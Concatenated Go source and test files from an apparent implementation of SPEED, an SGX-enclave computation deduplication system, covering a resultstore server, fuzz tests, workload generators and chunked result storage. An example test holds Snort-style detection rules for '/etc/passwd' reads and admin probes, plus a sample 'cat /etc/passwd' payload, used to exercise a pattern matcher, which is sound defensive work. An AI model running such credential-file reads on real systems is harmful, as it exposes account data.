func TestImageProperties(t *testing.T) {
	img := New(3).Image(64, 48)
	if img.W != 64 || img.H != 48 {
		t.Fatalf("Image size = %dx%d", img.W, img.H)
	}
	var lo, hi float32 = 2, -1
	for _, p := range img.Pix {
		if p < lo {
			lo = p
		}
		if p > hi {
			hi = p
		}
	}
	if lo < 0 || hi > 1 {
		t.Errorf("pixel range [%v, %v] outside [0,1]", lo, hi)
	}
	if hi-lo < 0.1 {
		t.Error("image nearly flat; SIFT would find nothing")
	}
	// SIFT must actually find keypoints on generated images.
	if kps := sift.Detect(img, sift.DefaultParams()); len(kps) == 0 {
		t.Error("generated image yields no SIFT keypoints")
	}
}

func TestTextProperties(t *testing.T) {
	txt := New(4).Text(10_000)
	if len(txt) != 10_000 {
		t.Fatalf("Text length = %d", len(txt))
	}
	// Natural-language-like text must be clearly compressible.
	if r := compress.Ratio(txt); r < 1.5 {
		t.Errorf("text compression ratio = %v, want >= 1.5", r)
	}
}

func TestWebPageTokenizes(t *testing.T) {
	page := New(5).WebPage(200)
	words := mapreduce.Tokenize(page)
	if len(words) != 200 {
		t.Errorf("WebPage(200) tokenizes to %d words", len(words))
	}
}

func TestSnortRulesCompile(t *testing.T) {
	rules := New(6).SnortRules(500)
	rs, err := pattern.CompileRules(rules)
	if err != nil {
		t.Fatalf("CompileRules: %v", err)
	}
	if rs.Len() != 500 {
		t.Errorf("Len = %d, want 500", rs.Len())
	}
}

func TestPacketHitRate(t *testing.T) {
	src := New(8)
	rules := src.SnortRules(100)
	rs, err := pattern.CompileRules(rules)
	if err != nil {
		t.Fatalf("CompileRules: %v", err)
	}
	const n = 200
	hits := 0
	for i := 0; i < n; i++ {
		pkt := src.Packet(512, rules, 0.5)
		if len(rs.Scan(pkt)) > 0 {
			hits++
		}
	}
	// Expect roughly half the packets to trigger at least one rule.
	if hits < n/5 || hits > n*9/10 {
		t.Errorf("hit rate %d/%d far from configured 0.5", hits, n)
	}

	// With zero probability, planted hits are absent (random content
	// may still collide with a synthetic rule, but it must be rare).
	misses := 0
	for i := 0; i < n; i++ {
		pkt := src.Packet(512, rules, 0)
		if len(rs.Scan(pkt)) == 0 {
			misses++
		}
	}
	if misses < n*9/10 {
		t.Errorf("unplanted packets matched too often: %d/%d clean", misses, n)
	}
}

func TestZipfIndicesProduceDuplicates(t *testing.T) {
	idx := New(9).ZipfIndices(1000, 50)
	if len(idx) != 1000 {
		t.Fatalf("len = %d", len(idx))
	}
	seen := make(map[int]int)
	for _, i := range idx {
		if i < 0 || i >= 50 {
			t.Fatalf("index %d out of pool range", i)
		}
		seen[i]++
	}
	// 1000 draws over 50 items: must contain many repeats, and the
	// Zipf skew must make the most popular item much hotter than the
	// median.
	if len(seen) > 50 {
		t.Fatalf("more distinct values than pool")
	}
	max := 0
	for _, c := range seen {
		if c > max {
			max = c
		}
	}
	if max < 100 {
		t.Errorf("hottest item drawn %d times, want heavy skew", max)
	}
}

func TestDupStream(t *testing.T) {
	src := New(10)
	stream := DupStream(src, 100, 5, func(i int) string {
		return string(rune('a' + i))
	})
	if len(stream) != 100 {
		t.Fatalf("len = %d", len(stream))
	}
	distinct := make(map[string]bool)
	for _, s := range stream {
		distinct[s] = true
	}
	if len(distinct) > 5 {
		t.Errorf("stream has %d distinct values, want <= 5", len(distinct))
	}
	if len(distinct) < 2 {
		t.Errorf("stream degenerate: %d distinct values", len(distinct))
	}
}
