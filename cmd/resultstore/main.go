// Command resultstore runs a standalone encrypted ResultStore server
// speaking SPEED's attested wire protocol over TCP, for deployments
// where applications on other machines share one store (the "master
// ResultStore on a dedicated server" deployment of Section IV-B).
//
// Usage:
//
//	resultstore -listen 127.0.0.1:7800 [-blobdir /var/lib/speed] \
//	            [-data-dir /var/lib/speed/store -machine-seed SEED] \
//	            [-max-entries 100000] [-quota-bytes 1073741824] \
//	            [-metrics 127.0.0.1:9090] [-stats-interval 30s]
//
// With -data-dir the dictionary runs on the persistent log-structured
// engine (sealed WAL + segments) and survives crashes; without it the
// store is in-memory and -snapshot provides shutdown/interval
// durability.
//
// On startup it prints the store enclave's measurement, which client
// applications pin during the attested channel handshake.
package main

import (
	"flag"
	"fmt"
	"net"
	"os"
	"os/signal"
	"syscall"
	"time"

	"speed/internal/enclave"
	"speed/internal/store"
	"speed/internal/telemetry"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "resultstore:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("resultstore", flag.ContinueOnError)
	listen := fs.String("listen", "127.0.0.1:7800", "listen address")
	blobDir := fs.String("blobdir", "", "directory for ciphertext blobs (default: in-memory)")
	engine := fs.String("engine", "", "storage engine: memory or log (default: memory, or log when -data-dir is set)")
	dataDir := fs.String("data-dir", "", "log engine data directory (sealed WAL + segments); implies -engine log")
	fsync := fs.String("fsync", "", "log engine WAL durability: commit (default), interval or none")
	memtableBytes := fs.Int64("memtable-bytes", 0, "log engine memtable budget before flushing a segment (0 = default)")
	cacheBytes := fs.Int64("cache-bytes", 0, "log engine hot-entry cache budget (0 = default)")
	compactInterval := fs.Duration("compact-interval", 0, "log engine background compaction period (0 = default, negative = disabled)")
	maxEntries := fs.Int("max-entries", 0, "max dictionary entries before LRU eviction (0 = unlimited)")
	maxBlobBytes := fs.Int64("max-blob-bytes", 0, "max total ciphertext bytes (0 = unlimited)")
	shards := fs.Int("shards", 0, "dictionary shard count, rounded up to a power of two (0 = default)")
	maxInflight := fs.Int("max-inflight", 0, "per-connection pipelined request cap for v2 clients (0 = default)")
	quotaBytes := fs.Int64("quota-bytes", 0, "per-application ciphertext byte quota (0 = unlimited)")
	quotaRate := fs.Float64("quota-put-rate", 0, "per-application PUT rate limit per second (0 = unlimited)")
	noSGX := fs.Bool("no-sgx", false, "disable simulated SGX transition costs")
	snapshotPath := fs.String("snapshot", "", "sealed snapshot file: restored at startup if present, written on shutdown")
	snapshotInterval := fs.Duration("snapshot-interval", 0, "also autosave the sealed snapshot at this interval, so a crash costs at most one interval (0 = shutdown-only)")
	machineSeed := fs.String("machine-seed", "", "deterministic machine identity (required for -snapshot to survive restarts)")
	ttl := fs.Duration("ttl", 0, "entry time-to-live (0 = never expire)")
	handshakeTimeout := fs.Duration("handshake-timeout", 10*time.Second, "attested handshake deadline for new connections (0 = unbounded)")
	idleTimeout := fs.Duration("idle-timeout", 5*time.Minute, "close connections idle longer than this (0 = unbounded)")
	writeTimeout := fs.Duration("write-timeout", 30*time.Second, "per-response write deadline (0 = unbounded)")
	metricsAddr := fs.String("metrics", "", "serve /metrics, /debug/trace and /debug/vars on this address (empty = disabled)")
	statsInterval := fs.Duration("stats-interval", 0, "print a stats summary line at this interval (0 = off)")
	slowRequest := fs.Duration("slow-request", 0, "log requests slower than this, rate-limited, with their trace ID (0 = off)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	persistent := *dataDir != "" || *engine == store.EngineLog
	if *snapshotPath != "" && *machineSeed == "" {
		return fmt.Errorf("-snapshot requires -machine-seed (sealing is machine-bound)")
	}
	if *dataDir != "" && *machineSeed == "" {
		return fmt.Errorf("-data-dir requires -machine-seed (the WAL and segments are sealed machine-bound; without a deterministic seed a restart cannot unseal them)")
	}
	if *snapshotInterval > 0 && *snapshotPath == "" && !persistent {
		return fmt.Errorf("-snapshot-interval requires -snapshot (or a persistent -data-dir engine, where it becomes a checkpoint interval)")
	}
	if *snapshotPath != "" && persistent {
		return fmt.Errorf("-snapshot and -data-dir are mutually exclusive: the log engine is already durable")
	}

	platform := enclave.NewPlatform(enclave.Config{
		SimulateCosts: !*noSGX,
		PlatformSeed:  []byte(*machineSeed),
	})
	storeEnc, err := platform.Create("speed-resultstore", []byte("speed resultstore enclave v1"))
	if err != nil {
		return fmt.Errorf("create enclave: %w", err)
	}

	var blobs store.BlobStore
	if *blobDir != "" {
		blobs, err = store.NewDiskBlobStore(*blobDir)
		if err != nil {
			return err
		}
	}
	reg := telemetry.NewRegistry()
	platform.RegisterTelemetry(reg)
	storeEnc.RegisterTelemetry(reg)
	st, err := store.New(store.Config{
		Enclave:         storeEnc,
		Blobs:           blobs,
		Shards:          *shards,
		MaxEntries:      *maxEntries,
		MaxBlobBytes:    *maxBlobBytes,
		TTL:             *ttl,
		Telemetry:       reg,
		Engine:          *engine,
		DataDir:         *dataDir,
		MemtableBytes:   *memtableBytes,
		CacheBytes:      *cacheBytes,
		Fsync:           *fsync,
		CompactInterval: *compactInterval,
		Logf: func(format string, args ...any) {
			fmt.Printf("resultstore: "+format+"\n", args...)
		},
		Quota: store.QuotaConfig{
			MaxBytesPerApp: *quotaBytes,
			PutRatePerSec:  *quotaRate,
		},
	})
	if err != nil {
		return err
	}
	if st.Persistent() {
		es := st.EngineStats()
		fsyncName := *fsync
		if fsyncName == "" {
			fsyncName = "commit"
		}
		fmt.Printf("resultstore: log engine on %s (fsync %s): %d entries recovered (%d replayed from WAL, %d segments)\n",
			*dataDir, fsyncName, st.Stats().Entries, es.Replayed, es.Segments)
	}

	if *snapshotPath != "" {
		if data, rerr := os.ReadFile(*snapshotPath); rerr == nil {
			n, rerr := st.RestoreSnapshot(data)
			if rerr != nil {
				return fmt.Errorf("restore snapshot: %w", rerr)
			}
			fmt.Printf("resultstore: restored %d entries from %s\n", n, *snapshotPath)
		} else if !os.IsNotExist(rerr) {
			return fmt.Errorf("read snapshot: %w", rerr)
		}
	}

	ln, err := net.Listen("tcp", *listen)
	if err != nil {
		return fmt.Errorf("listen: %w", err)
	}
	// Spans this node records carry its wire address, so traces
	// assembled across the fleet stay attributable.
	reg.SetNode(ln.Addr().String())
	srvOpts := []store.ServerOption{
		store.WithHandshakeTimeout(*handshakeTimeout),
		store.WithIdleTimeout(*idleTimeout),
		store.WithWriteTimeout(*writeTimeout),
		store.WithTelemetry(reg),
	}
	if *maxInflight > 0 {
		srvOpts = append(srvOpts, store.WithMaxInflight(*maxInflight))
	}
	if *slowRequest > 0 {
		srvOpts = append(srvOpts, store.WithSlowRequestLog(*slowRequest))
	}
	srv := store.NewServer(st, ln, srvOpts...)
	fmt.Printf("resultstore: listening on %s\n", ln.Addr())
	meas := storeEnc.Measurement()
	// Slice before %x: Measurement.String() abbreviates to 8 bytes, and
	// fmt applies Stringer to %x too — clients need all 32 bytes to pin.
	fmt.Printf("resultstore: enclave measurement %x\n", meas[:])

	if *metricsAddr != "" {
		ms, merr := telemetry.Serve(*metricsAddr, reg)
		if merr != nil {
			return fmt.Errorf("metrics listen: %w", merr)
		}
		defer ms.Close()
		fmt.Printf("resultstore: metrics on http://%s/metrics\n", ms.Addr())
	}

	summary := func(prefix string) {
		s := st.Stats()
		hitPct := 0.0
		if s.Gets > 0 {
			hitPct = 100 * float64(s.Hits) / float64(s.Gets)
		}
		fmt.Printf("resultstore: %s gets=%d hits=%d (%.1f%%) puts=%d dupes=%d denied=%d unauthorized=%d auth_fails=%d auth_fail_bytes=%d evictions=%d expired=%d entries=%d blob_bytes=%d epc_used=%d\n",
			prefix, s.Gets, s.Hits, hitPct, s.Puts, s.PutDupes, s.PutDenied,
			s.Unauthorized, srv.AuthFailures(), srv.AuthFailBytes(),
			s.Evictions, s.Expired, s.Entries, s.BlobBytes,
			platform.EPCUsed())
	}
	if *statsInterval > 0 {
		ticker := time.NewTicker(*statsInterval)
		defer ticker.Stop()
		stop := make(chan struct{})
		defer close(stop)
		go func() {
			for {
				select {
				case <-ticker.C:
					summary("stats")
				case <-stop:
					return
				}
			}
		}()
	}

	if *snapshotInterval > 0 {
		saver := store.NewAutosaver(st, *snapshotPath, *snapshotInterval,
			func(format string, args ...any) {
				fmt.Printf("resultstore: "+format+"\n", args...)
			})
		saver.Start()
		defer saver.Stop()
		if st.Persistent() {
			fmt.Printf("resultstore: checkpointing (memtable flush + WAL fsync) every %v\n", *snapshotInterval)
		} else {
			fmt.Printf("resultstore: autosaving snapshot to %s every %v\n", *snapshotPath, *snapshotInterval)
		}
	}

	errCh := make(chan error, 1)
	go func() { errCh <- srv.Serve() }()

	sigCh := make(chan os.Signal, 1)
	signal.Notify(sigCh, os.Interrupt, syscall.SIGTERM)
	select {
	case sig := <-sigCh:
		fmt.Printf("resultstore: %v, shutting down\n", sig)
		if err := srv.Close(); err != nil {
			return err
		}
		if *snapshotPath != "" {
			snap, serr := st.SealSnapshot()
			if serr != nil {
				return fmt.Errorf("seal snapshot: %w", serr)
			}
			if serr := os.WriteFile(*snapshotPath, snap, 0o600); serr != nil {
				return fmt.Errorf("write snapshot: %w", serr)
			}
			fmt.Printf("resultstore: sealed %d bytes to %s\n", len(snap), *snapshotPath)
		}
		summary("final")
		// Closing the store flushes the log engine's memtable and syncs
		// its WAL, so a clean shutdown restarts without replay.
		st.Close()
		return nil
	case err := <-errCh:
		return err
	}
}
