package chunk

import (
	"bytes"
	"encoding/binary"
	"testing"
)

// FuzzManifest: DecodeManifest must never panic, must reject any count
// above MaxManifestChunks, and anything it accepts must re-encode to
// the exact input bytes (the codec is canonical).
func FuzzManifest(f *testing.F) {
	m, _ := BuildManifest([][]byte{[]byte("alpha"), []byte("beta"), bytes.Repeat([]byte{7}, 100)})
	f.Add(m.Encode())
	f.Add([]byte{})
	f.Add([]byte("SPCM"))
	// A header announcing an absurd count with no body.
	big := append([]byte("SPCM\x01"), 0xFF, 0xFF, 0xFF, 0xFF)
	f.Add(append(big, make([]byte, 40)...))

	f.Fuzz(func(t *testing.T, data []byte) {
		dec, err := DecodeManifest(data)
		if err != nil {
			return
		}
		if len(dec.Refs) > MaxManifestChunks {
			t.Fatalf("accepted %d refs, cap is %d", len(dec.Refs), MaxManifestChunks)
		}
		var sum uint64
		for _, r := range dec.Refs {
			sum += uint64(r.Length)
		}
		if sum != dec.Total {
			t.Fatalf("accepted manifest whose lengths sum to %d but Total is %d", sum, dec.Total)
		}
		re := dec.Encode()
		if !bytes.Equal(re, data) {
			t.Fatalf("re-encode differs from accepted input:\n in: %x\nout: %x", data, re)
		}
		// The declared count must match what was decoded.
		if got := binary.BigEndian.Uint32(data[5:9]); int(got) != len(dec.Refs) {
			t.Fatalf("decoded %d refs for declared count %d", len(dec.Refs), got)
		}
	})
}

// FuzzChunker: for arbitrary input and write slicing, the chunker's
// invariants must hold — concatenation reproduces the input exactly,
// no chunk exceeds Max, no non-final chunk is below Min, and the
// incremental Stream agrees with Split byte for byte.
func FuzzChunker(f *testing.F) {
	f.Add([]byte("hello world"), uint16(3))
	f.Add(bytes.Repeat([]byte{0}, 10000), uint16(117))
	f.Add(bytes.Repeat([]byte("abcdefg"), 2000), uint16(4096))

	cfg := Config{Min: 64, Avg: 256, Max: 1024}
	c, err := NewChunker(cfg)
	if err != nil {
		f.Fatalf("NewChunker: %v", err)
	}

	f.Fuzz(func(t *testing.T, data []byte, writeSize uint16) {
		chunks := c.Split(data)
		var cat []byte
		for i, ch := range chunks {
			if len(ch) > cfg.Max {
				t.Fatalf("chunk %d is %d bytes, above Max %d", i, len(ch), cfg.Max)
			}
			if i < len(chunks)-1 && len(ch) < cfg.Min {
				t.Fatalf("non-final chunk %d is %d bytes, below Min %d", i, len(ch), cfg.Min)
			}
			cat = append(cat, ch...)
		}
		if !bytes.Equal(cat, data) {
			t.Fatal("concatenation differs from input")
		}

		ws := int(writeSize)
		if ws == 0 {
			ws = 1
		}
		var streamed [][]byte
		s := c.NewStream(func(ch []byte) error {
			streamed = append(streamed, append([]byte(nil), ch...))
			return nil
		})
		for off := 0; off < len(data); off += ws {
			end := off + ws
			if end > len(data) {
				end = len(data)
			}
			if _, err := s.Write(data[off:end]); err != nil {
				t.Fatalf("Write: %v", err)
			}
		}
		if err := s.Close(); err != nil {
			t.Fatalf("Close: %v", err)
		}
		if len(streamed) != len(chunks) {
			t.Fatalf("Stream made %d chunks, Split made %d", len(streamed), len(chunks))
		}
		for i := range streamed {
			if !bytes.Equal(streamed[i], chunks[i]) {
				t.Fatalf("Stream chunk %d differs from Split", i)
			}
		}
	})
}
