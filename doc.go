// Package speed is a Go implementation of SPEED, the secure and generic
// computation deduplication system for SGX-enclave applications from
// Cui et al., "SPEED: Accelerating Enclave Applications via Secure
// Deduplication" (IEEE ICDCS 2019).
//
// SPEED lets enclave applications mark deterministic, time-consuming
// function calls as deduplicable. At run time a trusted deduplication
// runtime derives a tag from the function's code identity and input,
// asks an encrypted ResultStore whether that exact computation was done
// before, and either reuses the stored encrypted result or computes,
// encrypts and uploads it. Results are protected with a randomized
// convergent encryption (RCE) variant, so any application that owns the
// same function code and input — and only such an application — can
// recover the result, with no system-wide shared key.
//
// Because no SGX hardware is assumed, the package runs over a software
// enclave simulator (EPC accounting, ECALL/OCALL transition costs,
// measurements, sealing, local attestation); see DESIGN.md for the
// substitution argument.
//
// # Quickstart
//
//	sys, err := speed.NewSystem()
//	// handle err
//	defer sys.Close()
//
//	app, err := sys.NewApp("myservice", serviceCode)
//	// handle err
//	defer app.Close()
//	app.RegisterLibrary("zlib", "1.2.11", zlibCode)
//
//	// The paper's "2 lines of code per function call":
//	deflate, err := speed.NewDeduplicable(app,
//		speed.FuncDesc{Library: "zlib", Version: "1.2.11", Signature: "int deflate(...)"},
//		myDeflate, speed.WithInputCodec[[]byte, []byte](speed.BytesCodec{}),
//		speed.WithOutputCodec[[]byte, []byte](speed.BytesCodec{}))
//	// handle err
//	out, err := deflate.Call(input) // deduplicated transparently
package speed
