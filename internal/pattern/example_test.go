package pattern_test

import (
	"fmt"
	"strings"

	"speed/internal/pattern"
)

// ExampleRuleSet_Scan compiles rules from Snort-like text and scans a
// payload.
func ExampleRuleSet_Scan() {
	rules, err := pattern.ParseRules(strings.NewReader(`
alert tcp any any -> any 80 (msg:"admin probe"; content:"GET"; nocase; pcre:"/admin[a-z]*\.php/i"; sid:1001;)
alert tcp any any -> any any (msg:"passwd read"; content:"/etc/passwd"; sid:1002;)
`))
	if err != nil {
		fmt.Println("error:", err)
		return
	}
	rs, err := pattern.CompileRules(rules)
	if err != nil {
		fmt.Println("error:", err)
		return
	}
	fmt.Println(rs.Scan([]byte("get /administrator.php and cat /etc/passwd")))
	fmt.Println(rs.Scan([]byte("GET /index.html")))
	// Output:
	// [1001 1002]
	// []
}

// ExampleCompileRegex shows the PCRE-subset engine.
func ExampleCompileRegex() {
	re, err := pattern.CompileRegex(`\d{3}-\d{4}`, false)
	if err != nil {
		fmt.Println("error:", err)
		return
	}
	fmt.Println(re.MatchString("call 555-0199 now"))
	fmt.Println(re.MatchString("no digits here"))
	// Output:
	// true
	// false
}

// ExampleNewMatcher shows the multi-pattern Aho–Corasick matcher.
func ExampleNewMatcher() {
	m := pattern.NewMatcher([][]byte{
		[]byte("he"), []byte("she"), []byte("hers"),
	}, false)
	for _, match := range m.FindAll([]byte("ushers")) {
		fmt.Printf("pattern %d ends at %d\n", match.Pattern, match.End)
	}
	// Output:
	// pattern 0 ends at 4
	// pattern 1 ends at 4
	// pattern 2 ends at 6
}
