package pattern

import "testing"

// FuzzCompileRegex: arbitrary patterns must never panic the compiler,
// and compiled patterns must never panic the matcher.
func FuzzCompileRegex(f *testing.F) {
	for _, seed := range []string{
		"", "a", "a|b", "(ab)*c{2,3}", `[a-z\d]+`, `\x41{1,4}`, "((((", "a{999999}",
		`^start.*end$`, `[^\n]*`,
	} {
		f.Add(seed, "sample input a1B2")
	}
	f.Fuzz(func(t *testing.T, pattern, input string) {
		re, err := CompileRegex(pattern, len(pattern)%2 == 0)
		if err != nil {
			return
		}
		_ = re.MatchString(input)
	})
}

// FuzzParseRule: arbitrary rule text must never panic the parser, and
// successfully parsed rules must compile.
func FuzzParseRule(f *testing.F) {
	f.Add(`alert tcp any any -> any 80 (msg:"x"; content:"abc"; sid:1;)`)
	f.Add(`alert ip any any -> any any (content:"|41 42|"; pcre:"/a+/i"; sid:2;)`)
	f.Add("garbage")
	f.Add("")
	f.Fuzz(func(t *testing.T, line string) {
		rule, err := ParseRuleString(line)
		if err != nil {
			return
		}
		if _, err := CompileRules([]Rule{rule}); err != nil {
			t.Fatalf("parsed rule does not compile: %v (%+v)", err, rule)
		}
	})
}

// FuzzScanResultCodec: decoding arbitrary bytes must never panic, and
// decodable payloads must re-encode consistently.
func FuzzScanResultCodec(f *testing.F) {
	f.Add([]byte{})
	f.Add(EncodeScanResult(nil))
	f.Add(EncodeScanResult([]int{1, 2, 3}))
	f.Fuzz(func(t *testing.T, data []byte) {
		ids, err := DecodeScanResult(data)
		if err != nil {
			return
		}
		again, err := DecodeScanResult(EncodeScanResult(ids))
		if err != nil || len(again) != len(ids) {
			t.Fatal("re-encode mismatch")
		}
	})
}
