package integration_test

import (
	"fmt"
	"sync"
	"testing"

	"speed/internal/enclave"
	"speed/internal/store"
	"speed/internal/workload"
)

// TestSoakSustainedTraffic drives a bounded store with sustained mixed
// traffic from several concurrent applications: tens of thousands of
// operations with Zipf-repeated inputs, LRU pressure, TTL expiry
// sweeps and coalesced bursts. Invariants checked at the end: no
// wrong results (verified per call), entry count within bounds, EPC
// fully accounted.
func TestSoakSustainedTraffic(t *testing.T) {
	if testing.Short() {
		t.Skip("soak test skipped in short mode")
	}
	const (
		apps        = 4
		callsPerApp = 4000
		distinct    = 600
		maxEntries  = 400
	)
	s := newStack(t, store.Config{MaxEntries: maxEntries}, enclave.Config{})

	var wg sync.WaitGroup
	for a := 0; a < apps; a++ {
		wg.Add(1)
		go func(a int) {
			defer wg.Done()
			rt := s.newApp(fmt.Sprintf("soak-app-%d", a))
			id := appFuncID(t, rt, "soak-func")
			src := workload.New(int64(1000 + a))
			indices := src.ZipfIndices(callsPerApp, distinct)
			for i, idx := range indices {
				input := []byte(fmt.Sprintf("input-%06d", idx))
				res, _, err := rt.Execute(id, input, func(in []byte) ([]byte, error) {
					return append([]byte("R|"), in...), nil
				})
				if err != nil {
					t.Errorf("app %d call %d: %v", a, i, err)
					return
				}
				if want := "R|" + string(input); string(res) != want {
					t.Errorf("app %d call %d: result %q, want %q", a, i, res, want)
					return
				}
			}
			st := rt.Stats()
			if st.Reused+st.Coalesced == 0 {
				t.Errorf("app %d: no reuse at all over %d Zipf-repeated calls", a, callsPerApp)
			}
		}(a)
	}
	wg.Wait()

	if got := s.store.Len(); got > maxEntries {
		t.Errorf("store entries = %d, exceeds cap %d", got, maxEntries)
	}
	stats := s.store.Stats()
	if stats.Evictions == 0 {
		t.Error("no evictions despite cap pressure")
	}
	// EPC accounting: heap equals per-entry footprint, no leaks from
	// the churn.
	perEntry := s.storeEnc.HeapUsed() / int64(s.store.Len())
	if perEntry <= 0 || perEntry > 4096 {
		t.Errorf("per-entry enclave footprint = %d bytes, implausible", perEntry)
	}
	t.Logf("soak done: %+v, enclave heap %d bytes for %d entries",
		stats, s.storeEnc.HeapUsed(), s.store.Len())
}
