# Development targets. `make check` is the gate every change must pass:
# vet plus the full test suite under the race detector, which keeps the
# coalescing-path fixes (panic cleanup, flight-result aliasing) fixed.

GO ?= go

.PHONY: check build vet test race bench-quick

check: vet race

build:
	$(GO) build ./...

vet:
	$(GO) vet ./...

test:
	$(GO) test ./...

race:
	$(GO) test -race ./...

bench-quick:
	$(GO) run ./cmd/speedbench -quick
