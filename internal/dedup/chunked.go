package dedup

import (
	"container/list"
	"errors"
	"fmt"
	"sync"

	"speed/internal/chunk"
	"speed/internal/enclave"
	"speed/internal/mle"
	"speed/internal/wire"
)

// Chunked deduplication (Config.ChunkThreshold). Large results are
// split by a content-defined FastCDC chunker, each chunk is
// independently RCE-encrypted under its content identity (see
// internal/chunk), and the call's primary tag stores a small sealed
// manifest instead of the whole result. Overlapping results — a
// re-render of an edited document, a near-duplicate dataset — then
// share every unchanged chunk: the store keeps one sealed copy, and a
// producer uploads (or a consumer fetches) only the chunks the other
// side is missing.
//
// The primary tag stays exactly the paper's t = H(func, input); what
// changes is the value stored under it. A whole-result entry decrypts
// under the base identity; a manifest decrypts only under the derived
// ManifestFuncID, so a pre-chunking runtime that hits a manifest gets
// a clean ErrAuthFailed and heals the entry by recompute + replace,
// while a chunk-aware runtime tries the whole-result identity first
// (the small-result path is byte-for-byte today's) and falls back to
// manifest reassembly.

// errNoManifest reports that the primary-tag entry did not decrypt as
// a manifest either — it is a genuinely poisoned/foreign entry, and
// the caller falls through to the ordinary recompute path silently.
var errNoManifest = errors.New("dedup: stored entry carries no manifest")

// errTooManyChunks reports that a result split into more chunks than
// one manifest (and one BatchGet) can carry; the caller falls back to
// the whole-result path.
var errTooManyChunks = errors.New("dedup: result splits into too many chunks")

// defaultChunkCacheBytes bounds the in-enclave chunk plaintext cache
// when Config.ChunkCacheBytes is left zero.
const defaultChunkCacheBytes = 16 << 20

// chunkLRU is a byte-bounded tag -> chunk-plaintext cache. An entry
// means "this chunk was store-resident when we last touched it", so a
// producer can skip re-uploading it and a consumer can skip fetching
// it. Cached bytes are charged to the application enclave (they are
// plaintext and must stay inside the trust boundary); under EPC
// pressure caching is skipped rather than failing the call.
type chunkLRU struct {
	mu    sync.Mutex
	max   int64
	bytes int64
	enc   *enclave.Enclave
	lru   *list.List // front = most recent; values are *chunkEntry
	m     map[mle.Tag]*list.Element
}

type chunkEntry struct {
	tag  mle.Tag
	data []byte
}

func newChunkLRU(enc *enclave.Enclave, max int64) *chunkLRU {
	return &chunkLRU{max: max, enc: enc, lru: list.New(), m: make(map[mle.Tag]*list.Element)}
}

// get returns the cached plaintext for tag, refreshing its recency.
// The returned slice is shared and must be treated as read-only.
func (c *chunkLRU) get(tag mle.Tag) ([]byte, bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	el, ok := c.m[tag]
	if !ok {
		return nil, false
	}
	c.lru.MoveToFront(el)
	return el.Value.(*chunkEntry).data, true
}

// contains is get without the recency refresh, for pure skip checks.
func (c *chunkLRU) contains(tag mle.Tag) bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	_, ok := c.m[tag]
	return ok
}

// add caches a private copy of data under tag, evicting from the LRU
// tail to stay within budget.
func (c *chunkLRU) add(tag mle.Tag, data []byte) {
	n := int64(len(data))
	if n > c.max {
		return
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	if el, ok := c.m[tag]; ok {
		c.lru.MoveToFront(el)
		return // same tag, same content (collision-resistant hash)
	}
	if err := c.enc.Alloc(n); err != nil {
		return // enclave memory pressure: caching is optional
	}
	e := &chunkEntry{tag: tag, data: append([]byte(nil), data...)}
	c.m[tag] = c.lru.PushFront(e)
	c.bytes += n
	for c.bytes > c.max {
		back := c.lru.Back()
		if back == nil {
			break
		}
		victim := back.Value.(*chunkEntry)
		c.lru.Remove(back)
		delete(c.m, victim.tag)
		c.bytes -= int64(len(victim.data))
		c.enc.Free(int64(len(victim.data)))
	}
}

// clientHasBatch probes the store for the given tags through the
// client's HasBatcher view, inside an OCALL (callers hold the
// enclave). A client without the interface — or a store that rejected
// the capability once — reports ErrHasBatchUnsupported and the caller
// assumes everything is missing.
func (rt *Runtime) clientHasBatch(tags []mle.Tag) ([]bool, error) {
	hb, ok := rt.cfg.Client.(HasBatcher)
	if !ok || rt.hasUnsupported.Load() {
		return nil, ErrHasBatchUnsupported
	}
	var present []bool
	err := rt.cfg.Enclave.OCall(func() error {
		var oerr error
		present, oerr = hb.HasBatch(tags)
		return oerr
	})
	if errors.Is(err, ErrHasBatchUnsupported) {
		rt.hasUnsupported.Store(true)
		return nil, err
	}
	if err == nil && len(present) != len(tags) {
		return nil, fmt.Errorf("dedup: has batch returned %d answers for %d tags", len(present), len(tags))
	}
	return present, err
}

// chunkedPut uploads a large result chunk-wise: split, probe for what
// the store already holds, upload only the missing sealed chunks, and
// seal the manifest at the call's primary tag. Runs inside the
// application enclave; every client exchange happens in an OCALL.
//
// With replace true (the entry at the primary tag failed verification,
// so a chunk may be tampered too) the probe and cache are bypassed and
// every chunk is re-uploaded with Replace, healing whatever was bad.
func (rt *Runtime) chunkedPut(id mle.FuncID, input, result []byte, tag mle.Tag, replace bool, tc wire.TraceContext, span *execSpan) error {
	chunks := rt.chunker.Split(result)
	if len(chunks) > chunk.MaxManifestChunks {
		return errTooManyChunks
	}
	man, err := chunk.BuildManifest(chunks)
	if err != nil {
		return errTooManyChunks
	}
	cid := chunk.ContentFuncID(id)
	ctags := make([]mle.Tag, len(chunks))
	for i := range chunks {
		ctags[i] = chunk.Tag(cid, man.Refs[i].Hash)
	}

	// Decide which chunks must travel. The local cache records chunks
	// known store-resident; the HAS_BATCH probe covers the rest. Both
	// are hints — a wrongly skipped upload surfaces later as a loud
	// reassembly failure and a recompute, never a wrong result.
	need := make([]bool, len(chunks))
	if replace {
		for i := range need {
			need[i] = true
		}
	} else {
		var unknownTags []mle.Tag
		var unknownIdx []int
		for i, t := range ctags {
			if rt.chunkCache.contains(t) {
				continue
			}
			need[i] = true
			unknownTags = append(unknownTags, t)
			unknownIdx = append(unknownIdx, i)
		}
		if len(unknownTags) > 0 {
			if present, perr := rt.clientHasBatch(unknownTags); perr == nil {
				for j, p := range present {
					if p {
						need[unknownIdx[j]] = false
					}
				}
			}
		}
	}

	span.begin(phaseEncrypt)
	var items []wire.PutItem
	skipped := 0
	for i := range chunks {
		if !need[i] {
			skipped++
			continue
		}
		sealed, eerr := rt.cfg.Scheme.Encrypt(cid, man.Refs[i].Hash[:], chunks[i])
		if eerr != nil {
			span.end(phaseEncrypt)
			return fmt.Errorf("encrypt chunk %d: %w", i, eerr)
		}
		items = append(items, wire.PutItem{Tag: ctags[i], Sealed: sealed, Replace: replace})
	}
	mid := chunk.ManifestFuncID(id)
	manSealed, err := rt.cfg.Scheme.Encrypt(mid, input, man.Encode())
	span.end(phaseEncrypt)
	if err != nil {
		return fmt.Errorf("encrypt manifest: %w", err)
	}

	span.begin(phaseStorePut)
	err = rt.cfg.Enclave.OCall(func() error {
		if len(items) > 0 {
